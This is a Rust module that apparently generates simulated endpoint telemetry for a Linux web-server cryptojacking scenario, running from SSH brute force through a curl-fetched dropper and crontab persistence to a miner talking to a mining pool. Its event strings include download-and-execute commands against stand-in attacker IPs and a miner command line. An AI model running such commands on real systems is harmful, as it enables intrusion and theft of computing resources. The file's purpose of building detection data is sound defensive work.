//! SSH brute force on an internet-facing Linux web server → download-and-execute from /tmp
//! → cron persistence → a cryptominer talking to a mining pool.

use rand::Rng;

use super::Builder;
use crate::emit::endpoint::{self, Account, Conn, FileOp, LogonOp, Proc};
use crate::ids::Hashes;
use crate::images::{Image, Img};
use crate::time::{MIN, Micros, SEC};

pub(super) fn play(b: &mut Builder, t0: Micros) -> Option<(&'static str, &'static str)> {
    let org = b.org;
    let di = org.infra.web2;
    let dev = org.devices.get(di)?;
    let pr = b.procs(di)?;
    let ip = b.attacker_ip("198.51.100");
    let pool_ip = b.attacker_ip("203.0.113");
    let pool = "pool.hashvault-mining.net";
    let miner = Image::unsigned("/tmp/.x/kworkerds", 2_883_584, &format!("miner:{t0}"));
    let script = Hashes::of(&format!("dropper:{t0}"));
    b.device(dev);
    b.ip(&ip);
    b.ip(&pool_ip);
    b.domain(pool);
    b.url(&format!("http://{ip}/k.sh"));
    b.file("kworkerds", &miner.hashes.sha1, &miner.hashes.sha256);
    b.file(".k.sh", &script.sha1, &script.sha256);

    b.stage("SSH brute force against the web server", &["credential-access"], &["T1110.001"], &[], &["brute_force"]);
    let sshd = pr.daemon(Img::LxSshd, pr.rt.lsass_pid, "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups");
    let names = ["root", "admin", "ubuntu", "test", "oracle", "postgres", "deploy", "git", "user"];
    let mut t = t0;
    let n = b.rng.random_range(100..170);
    for i in 0..n {
        let name = names[i % names.len()];
        endpoint::logon(
            b.em,
            dev,
            t,
            &sshd,
            LogonOp {
                action: "LogonFailed",
                logon_type: "Network",
                account: Account::unix(&dev.host_name, name),
                failure: "InvalidUserNameOrPassword",
                remote_ip: &ip,
                remote_port: b.rng.random_range(30_000..65_000),
                ..Default::default()
            },
        );
        t += b.rng.random_range(SEC..6 * SEC);
    }

    b.stage("Valid SSH logon to the deploy account", &["initial-access"], &["T1078.003", "T1021.004"], &[], &[]);
    let acct = Account::unix(&dev.host_name, "deploy");
    endpoint::logon(
        b.em,
        dev,
        t,
        &sshd,
        LogonOp { action: "LogonSuccess", logon_type: "Network", account: acct, remote_ip: &ip, remote_port: b.rng.random_range(30_000..65_000), ..Default::default() },
    );
    let sess = sshd.spawn(b.img.get(Img::LxSshd), b.rng.random_range(200_000..400_000), "sshd: deploy@notty", t);
    let bash = Proc { account: acct, ..sess.spawn(b.img.get(Img::LxBash), b.rng.random_range(200_000..400_000), "bash -c \"uname -a; nproc; id\"", t + SEC) };
    endpoint::process_created(b.em, dev, t + SEC, &bash, &sess);

    let t2 = t + b.rng.random_range(MIN..5 * MIN);
    b.stage(
        "Dropper downloaded with curl and run from /tmp",
        &["execution", "command-and-control"],
        &["T1059.004", "T1105"],
        &["a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa", "6419afd1-3742-47a5-a7e6-b50386cd15f8"],
        &[],
    );
    let sh_line = format!("sh -c \"/usr/bin/curl -fsSL http://{ip}/k.sh -o /tmp/.k.sh; sh /tmp/.k.sh\"");
    let sh = sess.spawn(b.img.get(Img::LxSh), b.rng.random_range(200_000..400_000), sh_line, t2);
    let sh = Proc { account: acct, ..sh };
    endpoint::process_created(b.em, dev, t2, &sh, &sess);
    let curl = sh.spawn(b.img.get(Img::LxCurl), b.rng.random_range(200_000..400_000), format!("/usr/bin/curl -fsSL http://{ip}/k.sh -o /tmp/.k.sh"), t2 + 50_000);
    endpoint::process_created(b.em, dev, t2 + 50_000, &curl, &sh);
    endpoint::network(
        b.em,
        dev,
        t2 + 150_000,
        &curl,
        Conn { action: "ConnectionSuccess", remote_ip: &ip, remote_port: 80, remote_url: &ip, local_ip: &dev.ip, local_port: b.rng.random_range(32_768..60_999), protocol: "Tcp" },
        None,
    );
    endpoint::file(b.em, dev, t2 + 400_000, &curl, FileOp { action: "FileCreated", path: "/tmp/.k.sh", sha1: &script.sha1, sha256: &script.sha256, md5: &script.md5, size: 4_211, ..Default::default() });
    let runner = sh.spawn(b.img.get(Img::LxSh), b.rng.random_range(200_000..400_000), "sh /tmp/.k.sh", t2 + 600_000);
    endpoint::process_created(b.em, dev, t2 + 600_000, &runner, &sh);
    let curl2 = runner.spawn(b.img.get(Img::LxCurl), b.rng.random_range(200_000..400_000), format!("curl -fsSL http://{ip}/x86_64 -o /tmp/.x/kworkerds"), t2 + 900_000);
    endpoint::process_created(b.em, dev, t2 + 900_000, &curl2, &runner);
    endpoint::file(
        b.em,
        dev,
        t2 + 2 * SEC,
        &curl2,
        FileOp { action: "FileCreated", path: &miner.path, sha1: &miner.hashes.sha1, sha256: &miner.hashes.sha256, md5: &miner.hashes.md5, size: miner.size, ..Default::default() },
    );
    let chmod = Image::unix("/usr/bin/chmod", 64_448);
    let ch = runner.spawn(&chmod, b.rng.random_range(200_000..400_000), "chmod +x /tmp/.x/kworkerds", t2 + 3 * SEC);
    endpoint::process_created(b.em, dev, t2 + 3 * SEC, &ch, &runner);

    b.stage("Cron persistence for the miner", &["persistence"], &["T1053.003"], &["6b14bac8-3e3a-4324-8109-42f0546a347f"], &[]);
    let ct = runner.spawn(b.img.get(Img::LxCrontab), b.rng.random_range(200_000..400_000), "crontab /tmp/.x/.cron", t2 + 4 * SEC);
    endpoint::process_created(b.em, dev, t2 + 4 * SEC, &ct, &runner);
    let cron_file = Hashes::of(&format!("cron:{t0}"));
    endpoint::file(
        b.em,
        dev,
        t2 + 4 * SEC + 200_000,
        &ct,
        FileOp { action: "FileModified", path: "/var/spool/cron/crontabs/deploy", sha1: &cron_file.sha1, sha256: &cron_file.sha256, md5: &cron_file.md5, size: 88, ..Default::default() },
    );

    b.stage("Cryptominer running and talking to a mining pool", &["impact"], &["T1496"], &[], &[]);
    let m = runner.spawn(&miner, b.rng.random_range(200_000..400_000), format!("/tmp/.x/kworkerds -o {pool}:3333 -u 4A5nGAvd3bT3HTj6 -p x --donate-level 1 -B"), t2 + 6 * SEC);
    endpoint::process_created(b.em, dev, t2 + 6 * SEC, &m, &runner);
    let mut tm = t2 + 8 * SEC;
    for _ in 0..20 {
        endpoint::network(
            b.em,
            dev,
            tm,
            &m,
            Conn { action: "ConnectionSuccess", remote_ip: &pool_ip, remote_port: 3333, remote_url: pool, local_ip: &dev.ip, local_port: b.rng.random_range(32_768..60_999), protocol: "Tcp" },
            None,
        );
        tm += b.rng.random_range(2 * MIN..6 * MIN);
    }
    Some((
        "Linux web server cryptojacking",
        "An internet-facing Ubuntu web server is brute-forced over SSH until the deploy account's password falls. The attacker downloads a dropper with curl into /tmp, runs it, installs an XMRig-style miner disguised as a kernel worker, persists it with crontab and mines against a pool on port 3333.",
    ))
}
